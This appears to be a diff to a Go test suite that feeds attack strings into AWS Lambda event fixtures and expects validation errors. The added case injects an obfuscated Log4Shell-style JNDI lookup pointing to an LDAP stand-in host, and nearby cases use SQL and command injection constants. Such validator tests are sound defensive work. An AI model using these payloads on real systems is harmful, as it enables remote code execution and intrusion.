@@ -303,6 +303,12 @@ var moreFamilyAttacks = []struct {
 			obj(m, "userRequest")["url"] = "https://object-lambda-111122223333.s3-object-lambda.us-east-1.amazonaws.com/example?filter=" + strings.ReplaceAll(atkSQLi, " ", "%20")
 		},
 		wantError("query.filter")},
+	{"S3 Object Lambda: a lookup before a scheme-like \"://\" in the URL", "aws-lambda-go/events/s3-object-lambda-event-get-object-iam.json",
+		func(m any) {
+			// "${...}ndi:ldap" is no URL scheme: the whole URL is the path
+			obj(m, "userRequest")["url"] = "${${lower:j}ndi:ldap://x.example/a}"
+		},
+		wantError("path")},
 	{"CloudFormation: cmdi in a resource property", "aws-lambda-go/cfn/cloudformation-event.json",
 		func(m any) { obj(m, "ResourceProperties")["Command"] = "backup" + atkCmdI },
 		wantError("ResourceProperties.Command")},
